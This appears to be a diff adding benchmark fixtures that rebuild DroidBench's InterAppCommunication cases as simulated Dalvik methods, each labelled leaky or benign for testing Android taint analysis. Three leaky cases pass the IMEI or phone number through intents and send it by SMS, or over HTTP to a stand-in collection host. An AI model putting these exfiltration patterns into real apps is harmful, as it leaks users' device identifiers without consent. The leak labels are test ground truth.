@@ -1,0 +1,126 @@
+"""DroidBench category: InterAppCommunication — data through Intents."""
+
+from __future__ import annotations
+
+from typing import List
+
+from repro.android.device import AndroidDevice
+from repro.dalvik.builder import MethodBuilder
+from repro.dalvik.vm import Method
+from repro.apps.droidbench.common import (
+    BenchApp,
+    concat_const_and,
+    fetch_imei,
+    fetch_phone_number,
+    send_http,
+    send_sms_to,
+)
+
+
+def _intent_sink1(device: AndroidDevice) -> List[Method]:
+    """IntentSink1 (leaky): IMEI rides an intent extra into another
+    component, which sends it."""
+    receiver = MethodBuilder("IntentSink1.onReceive", registers=12, ins=1)
+    receiver.const_string(0, "payload")
+    receiver.invoke("Intent.getStringExtra", 11, 0)
+    receiver.move_result_object(1)
+    send_sms_to(receiver, 1, 2, 3)
+    receiver.return_void()
+
+    main = MethodBuilder("IntentSink1.main", registers=8)
+    main.new_instance(0, "android/content/Intent")
+    main.invoke_direct("Intent.<init>", 0)
+    fetch_imei(main, 1)
+    main.const_string(2, "payload")
+    main.invoke("Intent.putExtra", 0, 2, 1)
+    main.invoke("IntentSink1.onReceive", 0)  # the framework delivers it
+    main.return_void()
+    return [receiver.build(), main.build()]
+
+
+def _intent_sink2(device: AndroidDevice) -> List[Method]:
+    """IntentSink2 (benign): only a harmless extra crosses the intent."""
+    receiver = MethodBuilder("IntentSink2.onReceive", registers=12, ins=1)
+    receiver.const_string(0, "note")
+    receiver.invoke("Intent.getStringExtra", 11, 0)
+    receiver.move_result_object(1)
+    send_sms_to(receiver, 1, 2, 3)
+    receiver.return_void()
+
+    main = MethodBuilder("IntentSink2.main", registers=8)
+    main.new_instance(0, "android/content/Intent")
+    main.invoke_direct("Intent.<init>", 0)
+    fetch_imei(main, 1)  # read but never attached
+    main.const_string(2, "note")
+    main.const_string(3, "see you at 6")
+    main.invoke("Intent.putExtra", 0, 2, 3)
+    main.invoke("IntentSink2.onReceive", 0)
+    main.return_void()
+    return [receiver.build(), main.build()]
+
+
+def _intent_source(device: AndroidDevice) -> List[Method]:
+    """IntentSource (leaky): a 'received' intent carrying the phone number
+    is unpacked and forwarded over HTTP."""
+    handler = MethodBuilder("IntentSource.handle", registers=14, ins=1)
+    handler.const_string(0, "number")
+    handler.invoke("Intent.getStringExtra", 13, 0)
+    handler.move_result_object(1)
+    concat_const_and(handler, "http://collect.example.com/?n=", 1, 2, 3, 4)
+    send_http(handler, 2, 5, 6)
+    handler.return_void()
+
+    main = MethodBuilder("IntentSource.main", registers=8)
+    main.new_instance(0, "android/content/Intent")
+    main.invoke_direct("Intent.<init>", 0)
+    fetch_phone_number(main, 1)
+    main.const_string(2, "number")
+    main.invoke("Intent.putExtra", 0, 2, 1)
+    main.invoke("IntentSource.handle", 0)
+    main.return_void()
+    return [handler.build(), main.build()]
+
+
+def _intent_result_leak(device: AndroidDevice) -> List[Method]:
+    """IntentResultLeak (leaky): a callee component returns the secret in a
+    result intent; the caller sends it."""
+    provider = MethodBuilder("IntentResultLeak.provide", registers=10, ins=1)
+    fetch_imei(provider, 0)
+    provider.const_string(1, "result")
+    provider.invoke("Intent.putExtra", 9, 1, 0)
+    provider.return_void()
+
+    main = MethodBuilder("IntentResultLeak.main", registers=10)
+    main.new_instance(0, "android/content/Intent")
+    main.invoke_direct("Intent.<init>", 0)
+    main.invoke("IntentResultLeak.provide", 0)
+    main.const_string(1, "result")
+    main.invoke("Intent.getStringExtra", 0, 1)
+    main.move_result_object(2)
+    send_sms_to(main, 2, 3, 4)
+    main.return_void()
+    return [provider.build(), main.build()]
+
+
+APPS = [
+    BenchApp(
+        "InterAppCommunication.IntentSink1", "inter_app", True,
+        _intent_sink1, "IntentSink1.main",
+        "IMEI in an intent extra, sent by the receiving component.", 1,
+    ),
+    BenchApp(
+        "InterAppCommunication.IntentSink2", "inter_app", False,
+        _intent_sink2, "IntentSink2.main",
+        "Only a harmless extra crosses the intent.",
+    ),
+    BenchApp(
+        "InterAppCommunication.IntentSource", "inter_app", True,
+        _intent_source, "IntentSource.main",
+        "Phone number unpacked from an intent, forwarded over HTTP.", 2,
+    ),
+    BenchApp(
+        "InterAppCommunication.IntentResultLeak", "inter_app", True,
+        _intent_result_leak, "IntentResultLeak.main",
+        "Secret returned through a result intent, sent by the caller.", 1,
+    ),
+]
